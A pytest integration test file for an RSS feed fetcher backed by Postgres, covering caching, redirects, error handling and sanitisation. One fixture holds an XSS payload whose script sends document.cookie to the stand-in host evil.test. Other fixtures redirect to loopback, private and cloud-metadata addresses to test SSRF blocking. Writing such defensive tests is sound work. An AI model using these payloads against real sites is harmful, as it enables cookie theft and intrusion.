"""Feed fetching end to end: the real feed from a local HTTP server into Postgres, conditional GET, edits,
hostile and malformed feeds, redirects, 410, Retry-After, tombstones, deterministic mentions. Layer: vertical."""

from __future__ import annotations

import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

import psycopg
import pytest
from psycopg import AsyncConnection

from sidecar.chassis.net import AddressPolicy
from sidecar.chassis.net.testing import Reply, ScriptedServer, Seen, endless
from sidecar.engine.registry import CaptureInput
from sidecar.verticals.architecture.catalog.service import import_text
from sidecar.verticals.architecture.feeds.fetcher import FetchSettings, fetch_feed
from sidecar.verticals.architecture.interpreters import pattern_mentions, registration

pytestmark = [pytest.mark.db, pytest.mark.http]

DATA = Path("/work/shared/data")
REAL_FEED = (DATA / "feeds" / "architecture-weekly.rss").read_bytes()
RSS = "application/rss+xml; charset=utf-8"


@pytest.fixture(scope="module")
def world(module_db: str, db_conninfo: str) -> str:
    """Personas plus the Layra catalog imported through the catalog's own importer."""
    with psycopg.connect(db_conninfo, autocommit=True) as conn:
        conn.execute("select tests.personas()")

    async def seed() -> None:
        conn = await AsyncConnection.connect(db_conninfo)
        await conn.execute("set role operator")
        await conn.execute("select chassis.operator_session('pytest', 'seed catalog for feed tests')")
        await import_text(conn, (DATA / "layra-patterns.md").read_text(), scope="global", source="layra")
        await conn.commit()
        await conn.close()

    import asyncio

    asyncio.run(seed())
    return db_conninfo


@pytest.fixture
def settings(server: ScriptedServer) -> FetchSettings:
    return FetchSettings(policy=AddressPolicy.allowing(f"127.0.0.1:{server.port}"), max_bytes=2 * 1024 * 1024)


async def run_pattern_mentions(conn: AsyncConnection[Any], article_id: str) -> int:
    """What the engine does for one article's mentions capture: derive offline, then the reducer's projection."""
    source = (await (await conn.execute("select architecture.article_source_v1(%s)", (article_id,))).fetchone())[0]
    capture = CaptureInput("test", source["tenant_id"], pattern_mentions.KIND, "feed", source["text"], {})
    terms = (await (await conn.execute("select architecture.pattern_terms_v1(%s)", (source["tenant_id"],))).fetchone())[
        0
    ]
    payload = registration.derive_mentions(capture, terms)
    await registration.project(
        conn, pattern_mentions.KIND, None, payload, source["tenant_id"], [(article_id, source["content_hash"])]
    )
    await conn.commit()
    return len(payload["mentions"])


def subscribe(conninfo: str, sub: str, tenant: str, url: str) -> UUID:
    with psycopg.connect(conninfo) as conn:
        conn.execute("select tests.authenticate_as(%s, %s)", (sub, tenant))
        row = conn.execute("select (api.architecture_feed_subscribe(%s)).feed_id", (url,)).fetchone()
        assert row is not None
        return row[0]


def as_user(conninfo: str, sub: str, tenant: str, sql: str, *args: Any) -> list[tuple[Any, ...]]:
    with psycopg.connect(conninfo) as conn:
        conn.execute("select tests.authenticate_as(%s, %s)", (sub, tenant))
        return conn.execute(sql, args).fetchall()


def superuser(conninfo: str, sql: str, *args: Any) -> list[tuple[Any, ...]]:
    with psycopg.connect(conninfo, autocommit=True) as conn:
        return conn.execute(sql, args).fetchall()


def snapshot(conninfo: str, feed_id: UUID) -> tuple[Any, ...]:
    """Row versions (xmin) of everything a fetch could write for this feed."""
    return superuser(
        conninfo,
        """select
             (select array_agg(i.xmin::text order by i.id) from architecture.feed_items as i where i.feed_id = %(f)s),
             (select array_agg(a.xmin::text order by a.id) from architecture.articles as a where a.feed_id = %(f)s),
             (select array_agg(p.xmin::text order by p.id) from architecture.article_patterns as p
              join architecture.articles as a on a.id = p.article_id where a.feed_id = %(f)s)""".replace("%(f)s", "%s"),
        feed_id,
        feed_id,
        feed_id,
    )[0]


async def test_real_feed_first_fetch_then_304_then_an_edit_reinterprets_only_that_item(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any]
) -> None:
    state = {"etag": '"v1"', "body": REAL_FEED}

    def route(seen: Seen) -> Reply:
        if seen.headers.get("if-none-match") == state["etag"]:
            return Reply(304, {"ETag": str(state["etag"])})
        return Reply(200, {"ETag": str(state["etag"]), "Content-Type": RSS, "Cache-Control": "max-age=7200"},
                     bytes(state["body"]))  # fmt: skip

    server.routes["/weekly"] = route
    url = server.url("/weekly")
    feed_id = subscribe(world, "mia", "acme", url)
    assert subscribe(world, "gary", "globex", url) == feed_id

    first = await fetch_feed(sidecar, feed_id, settings)
    assert (first.kind, first.http_status) == ("ok", 200)
    assert first.items == {"new": 20, "edited": 0, "unchanged": 0, "tombstoned": 0}
    assert len(first.articles) == 40 and {a["change"] for a in first.articles} == {"new"}
    assert superuser(world, "select count(*) from architecture.feed_items where feed_id = %s", feed_id) == [(20,)]
    assert as_user(world, "mia", "acme", "select count(*) from api.architecture_articles") == [(20,)]
    assert as_user(world, "gary", "globex", "select count(*) from api.architecture_articles") == [(20,)]
    [(wait,)] = as_user(world, "mia", "acme", "select next_check_at - now() from api.architecture_feed_subscriptions")
    assert timedelta(minutes=90) < wait <= timedelta(hours=2)  # Cache-Control: max-age=7200 beats the 1 h schedule
    for article in first.articles:
        await run_pattern_mentions(sidecar, article["article_id"])

    before = snapshot(world, feed_id)
    second = await fetch_feed(sidecar, feed_id, settings)
    assert (second.kind, second.http_status, second.items, second.articles) == ("not_modified", 304, {}, ())
    assert server.seen[-1].headers["if-none-match"] == '"v1"'
    assert snapshot(world, feed_id) == before

    edited_sentence = b"Passive-aggressive tone is the worst."
    assert REAL_FEED.count(edited_sentence) == 1
    state.update(etag='"v2"', body=REAL_FEED.replace(edited_sentence, b"Passive-aggressive tone hurts teams."))
    third = await fetch_feed(sidecar, feed_id, settings)
    assert third.items == {"new": 0, "edited": 1, "unchanged": 19, "tombstoned": 0}
    assert {a["change"] for a in third.articles} == {"edited"} and len(third.articles) == 2
    edited_ids = {str(a["article_id"]) for a in third.articles}
    waiting = superuser(
        world,
        "select id::text from architecture.articles where feed_id = %s and interpreted_hash <> content_hash",
        feed_id,
    )
    assert {r[0] for r in waiting} == edited_ids
    links_before = dict(
        superuser(
            world,
            """
        select a.id::text, array_agg(p.xmin::text order by p.id) from architecture.articles as a
        join architecture.article_patterns as p on p.article_id = a.id where a.feed_id = %s group by a.id""",
            feed_id,
        )
    )
    for article in third.articles:
        assert await run_pattern_mentions(sidecar, article["article_id"]) > 0
    links_after = dict(
        superuser(
            world,
            """
        select a.id::text, array_agg(p.xmin::text order by p.id) from architecture.articles as a
        join architecture.article_patterns as p on p.article_id = a.id where a.feed_id = %s group by a.id""",
            feed_id,
        )
    )
    changed = {k for k in links_after if links_after[k] != links_before.get(k)}
    assert changed == edited_ids
    texts = as_user(world, "mia", "acme", "select text from api.architecture_articles where text like %s",
                    "%Passive-aggressive tone hurts teams.%")  # fmt: skip
    assert len(texts) == 1


async def test_deterministic_mentions_on_the_real_feed_quote_the_text_verbatim(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any]
) -> None:
    server.routes["/mentions"] = lambda seen: Reply(200, {"Content-Type": RSS}, REAL_FEED)
    feed_id = subscribe(world, "adam", "acme", server.url("/mentions"))
    report = await fetch_feed(sidecar, feed_id, settings)
    for article in report.articles:
        await run_pattern_mentions(sidecar, article["article_id"])
    rows = as_user(world, "mia", "acme", """
        select a.title, p.pattern_slug, p.mention_count, p.verified, e ->> 'quote', e ->> 'status',
               strpos(a.text, e ->> 'quote') > 0,
               substr(a.text, (e ->> 'start')::int + 1, (e ->> 'end')::int - (e ->> 'start')::int) = e ->> 'quote'
        from api.architecture_article_patterns as p
        join api.architecture_articles as a on a.id = p.article_id
        cross join jsonb_array_elements(p.evidence) as e
        where a.feed_id = %s""", feed_id)  # fmt: skip
    assert len(rows) >= 40
    assert all(r[3] and r[5] == "exact" and r[6] and r[7] for r in rows)
    by_title: dict[str, set[str]] = {}
    for title, slug, *_ in rows:
        by_title.setdefault(title, set()).add(slug)
    assert {"cqrs-event-sourcing", "saga-pattern", "event-driven-architecture"} <= by_title[
        "Architecture Weekly is 5 years old! 🎉"
    ]
    backlinks = as_user(world, "mia", "acme", """
        select article_title, stances from api.architecture_pattern_backlinks
        where pattern_slug = 'event-driven-architecture'""")  # fmt: skip
    assert ("Anti-patterns in event modelling - Passive-Aggressive Events", ["mentions"]) in backlinks
    foreign = "select count(*) from architecture.article_patterns as p where p.tenant_id = tests.tenant_id('acme')"
    assert as_user(world, "gary", "globex", foreign) == [(0,)]


HOSTILE_ITEM = (
    "<item><guid>h1</guid><link>https://hostile.example.test/p/1</link><title>Hostile</title><description><![CDATA["
    "<p onmouseover='x()'>Read <a href='javascript:alert(document.cookie)'>this</a>"
    "<script>fetch('https://evil.test/?c='+document.cookie)</script><style>*{display:none}</style>"
    "<iframe src='https://evil.test'></iframe><a href='https://ok.example.test/'>ok</a></p>]]></description></item>"
)


def rss(items: str, prolog: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
    return f"{prolog}<rss version='2.0'><channel><title>H</title>{items}</channel></rss>".encode()


@pytest.mark.parametrize(
    ("name", "make_route", "expected"),
    [
        ("bad-xml", lambda s: lambda seen: Reply(200, {"Content-Type": RSS}, b"<?xml version='1.0'?><<<&&& not xml"),
         ("error", "parse_error")),
        ("html-page", lambda s: lambda seen: Reply(200, {"Content-Type": "text/html"}, b"<html><body>hi</body></html>"),
         ("error", "parse_error")),
        ("empty", lambda s: lambda seen: Reply(200, {"Content-Type": RSS}, b""), ("error", "parse_error")),
        ("huge", lambda s: lambda seen: Reply(200, {"Content-Type": RSS}, endless(total=50 * 1024 * 1024)),
         ("error", "body_too_large")),
        ("loop", lambda s: lambda seen: Reply(302, {"Location": "/feeds/loop-b"}), ("error", "redirect_loop")),
        ("to-loopback", lambda s: lambda seen: Reply(302, {"Location": "http://127.0.0.1:1/feed"}),
         ("error", "blocked_address")),
        ("to-private", lambda s: lambda seen: Reply(301, {"Location": "http://10.0.0.7/feed"}),
         ("error", "blocked_address")),
        ("to-metadata", lambda s: lambda seen: Reply(307, {"Location": "http://169.254.169.254/latest/meta-data/"}),
         ("error", "blocked_address")),
        ("server-error", lambda s: lambda seen: Reply(500, body=b"oops"), ("error", "http_500")),
        ("challenge", lambda s: lambda seen: Reply(403, {"cf-mitigated": "challenge"}), ("error", "challenge")),
    ],
)  # fmt: skip
async def test_malformed_and_hostile_feeds_record_an_error_and_never_raise(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any],
    name: str, make_route: Any, expected: tuple[str, str],
) -> None:  # fmt: skip
    server.routes[f"/feeds/{name}"] = make_route(server)
    server.routes["/feeds/loop-b"] = lambda seen: Reply(302, {"Location": "/feeds/loop"})
    feed_id = subscribe(world, "mia", "acme", server.url(f"/feeds/{name}"))
    started = time.monotonic()
    report = await fetch_feed(sidecar, feed_id, settings)
    assert time.monotonic() - started < 10
    assert (report.kind, report.error_code) == expected
    status = as_user(world, "mia", "acme", """
        select error_count, last_error_code, last_error is not null, next_check_at > now() + interval '90 minutes'
        from api.architecture_feed_subscriptions where feed_id = %s""", feed_id)  # fmt: skip
    assert status == [(1, expected[1], True, True)]
    again = await fetch_feed(sidecar, feed_id, settings)
    assert again.error_code == expected[1]
    count_sql = "select error_count from api.architecture_feed_subscriptions where feed_id = %s"
    assert as_user(world, "mia", "acme", count_sql, feed_id) == [(2,)]


async def test_scripts_and_javascript_links_are_sanitised_before_storage(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any]
) -> None:
    server.routes["/hostile"] = lambda seen: Reply(200, {"Content-Type": RSS}, rss(HOSTILE_ITEM))
    feed_id = subscribe(world, "mia", "acme", server.url("/hostile"))
    assert (await fetch_feed(sidecar, feed_id, settings)).kind == "ok"
    sql = "select html, text from api.architecture_articles where feed_id = %s"
    [(html, text)] = as_user(world, "mia", "acme", sql, feed_id)
    for needle in ("<script", "cookie", "javascript:", "onmouseover", "<iframe", "<style", "display:none"):
        assert needle not in html
    assert 'href="https://ok.example.test/"' in html and 'rel="noopener noreferrer"' in html
    assert text == "Read thisok"  # the dropped <script>, <style> and <iframe> separated nothing


async def test_wrong_encoding_is_repaired(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any]
) -> None:
    body = rss("<item><guid>e1</guid><title>Caf\u00e9 na\u00efve \u2014 r\u00e9sum\u00e9</title></item>")
    server.routes["/cp1252"] = lambda seen: Reply(200, {"Content-Type": RSS}, body.decode().encode("windows-1252"))
    feed_id = subscribe(world, "mia", "acme", server.url("/cp1252"))
    assert (await fetch_feed(sidecar, feed_id, settings)).kind == "ok"
    assert as_user(world, "mia", "acme", "select title from api.architecture_articles where feed_id = %s",
                   feed_id) == [("Caf\u00e9 na\u00efve \u2014 r\u00e9sum\u00e9",)]  # fmt: skip


async def test_410_stops_the_feed(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any]
) -> None:
    server.routes["/gone"] = lambda seen: Reply(410, body=b"gone")
    feed_id = subscribe(world, "mia", "acme", server.url("/gone"))
    assert (await fetch_feed(sidecar, feed_id, settings)).kind == "gone"
    assert (await fetch_feed(sidecar, feed_id, settings)).kind == "skipped"
    assert len(server.seen) == 1
    assert as_user(world, "mia", "acme", "select status, last_error_code from api.architecture_feed_subscriptions "
                   "where feed_id = %s", feed_id) == [("gone", "gone")]  # fmt: skip


@pytest.mark.parametrize(("date_form", "hours"), [(False, 2), (True, 5)])
async def test_retry_after_is_honoured(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any],
    date_form: bool, hours: int,
) -> None:  # fmt: skip
    later = datetime.now(UTC) + timedelta(hours=hours)
    retry_after = later.strftime("%a, %d %b %Y %H:%M:%S GMT") if date_form else str(hours * 3600)
    server.routes[f"/busy{hours}"] = lambda seen: Reply(429, {"Retry-After": retry_after})
    feed_id = subscribe(world, "mia", "acme", server.url(f"/busy{hours}"))
    report = await fetch_feed(sidecar, feed_id, settings)
    assert (report.kind, report.error_code) == ("error", "rate_limited")
    [(wait,)] = as_user(world, "mia", "acme", "select next_check_at - now() from api.architecture_feed_subscriptions "
                        "where feed_id = %s", feed_id)  # fmt: skip
    assert timedelta(hours=hours) - timedelta(minutes=10) < wait <= timedelta(hours=hours)


async def test_permanent_redirect_rewrites_the_url_only_after_three_confirmations(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any]
) -> None:
    server.routes["/old"] = lambda seen: Reply(301, {"Location": "/new"})
    server.routes["/temp"] = lambda seen: Reply(302, {"Location": "/new"})
    server.routes["/new"] = lambda seen: Reply(
        200, {"Content-Type": RSS}, rss("<item><guid>r1</guid><title>R</title></item>")
    )
    old, temp = server.url("/old"), server.url("/temp")
    feed_id = subscribe(world, "mia", "acme", old)
    temp_id = subscribe(world, "mia", "acme", temp)
    urls = []
    for _ in range(3):
        urls.append((await fetch_feed(sidecar, feed_id, settings)).url)
        await fetch_feed(sidecar, temp_id, settings)
    assert urls == [old, old, server.url("/new")]
    assert as_user(world, "mia", "acme", "select url, previous_urls from api.architecture_feed_subscriptions "
                   "where feed_id = %s", feed_id) == [(server.url("/new"), [old])]  # fmt: skip
    assert as_user(world, "mia", "acme", "select url from api.architecture_feed_subscriptions where feed_id = %s",
                   temp_id) == [(temp,)]  # fmt: skip
    assert as_user(world, "mia", "acme", "select count(*) from api.architecture_articles where feed_id = %s",
                   feed_id) == [(1,)]  # fmt: skip


async def test_purged_items_never_come_back(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any]
) -> None:
    items = "<item><guid>t1</guid><title>Keep</title></item><item><guid>t2</guid><title>Purge</title></item>"
    server.routes["/tomb"] = lambda seen: Reply(200, {"Content-Type": RSS}, rss(items))
    feed_id = subscribe(world, "mia", "acme", server.url("/tomb"))
    await fetch_feed(sidecar, feed_id, settings)
    [(item_id,)] = superuser(
        world, "select id from architecture.feed_items where feed_id = %s and title = 'Purge'", feed_id
    )
    await sidecar.execute("select architecture.purge_feed_item(%s)", (item_id,))
    await sidecar.commit()
    report = await fetch_feed(sidecar, feed_id, settings)
    assert report.items == {"new": 0, "edited": 0, "unchanged": 1, "tombstoned": 1}
    assert as_user(world, "mia", "acme", "select title from api.architecture_articles where feed_id = %s",
                   feed_id) == [("Keep",)]  # fmt: skip


async def test_expires_zero_drops_validators_and_a_stale_etag_is_replaced(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any]
) -> None:
    replies = iter([
        Reply(200, {"Content-Type": RSS, "ETag": '"a"', "Last-Modified": "Fri, 01 May 2026 10:00:00 GMT"}, rss("")),
        Reply(200, {"Content-Type": RSS, "ETag": '"b"'}, rss("")),
        Reply(200, {"Content-Type": RSS, "ETag": '"c"', "Expires": "0"}, rss("")),
        Reply(200, {"Content-Type": RSS}, rss("")),
    ])  # fmt: skip
    server.routes["/validators"] = lambda seen: next(replies)
    feed_id = subscribe(world, "mia", "acme", server.url("/validators"))
    stored = []
    for _ in range(4):
        await fetch_feed(sidecar, feed_id, settings)
        stored.append(superuser(world, "select etag, last_modified from architecture.feeds where id = %s", feed_id)[0])
    assert stored == [('"a"', "Fri, 01 May 2026 10:00:00 GMT"), ('"b"', None), (None, None), (None, None)]
    sent = [(s.headers.get("if-none-match"), s.headers.get("if-modified-since")) for s in server.seen]
    assert sent == [(None, None), ('"a"', "Fri, 01 May 2026 10:00:00 GMT"), ('"b"', None), (None, None)]


async def test_content_the_database_refuses_is_recorded_as_an_error(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any]
) -> None:
    with psycopg.connect(world, autocommit=True) as conn:
        conn.execute("""
            do $$ begin
              alter table architecture.feed_items add constraint refuse_cursed_titles check (title <> 'Cursed');
            exception when duplicate_object then null; end $$""")  # fmt: skip
    cursed = rss("<item><guid>c</guid><title>Cursed</title></item>")
    server.routes["/cursed"] = lambda seen: Reply(200, {"Content-Type": RSS}, cursed)
    feed_id = subscribe(world, "mia", "acme", server.url("/cursed"))
    report = await fetch_feed(sidecar, feed_id, settings)
    assert (report.kind, report.error_code, report.http_status) == ("error", "store_failed", 200)
    sql = "select error_count, last_error from api.architecture_feed_subscriptions where feed_id = %s"
    [(errors, message)] = as_user(world, "mia", "acme", sql, feed_id)
    assert errors == 1 and "refuse_cursed_titles" in message


async def test_a_feed_without_validators_is_polled_at_most_daily(
    world: str, server: ScriptedServer, settings: FetchSettings, sidecar: AsyncConnection[Any]
) -> None:
    plain = rss("<item><guid>p</guid><title>P</title></item>")
    server.routes["/plain"] = lambda seen: Reply(200, {"Content-Type": RSS}, plain)
    feed_id = subscribe(world, "mia", "acme", server.url("/plain"))
    assert (await fetch_feed(sidecar, feed_id, settings)).kind == "ok"
    sql = "select next_check_at - now() from api.architecture_feed_subscriptions where feed_id = %s"
    [(wait,)] = as_user(world, "mia", "acme", sql, feed_id)
    assert timedelta(hours=23) < wait <= timedelta(hours=24)
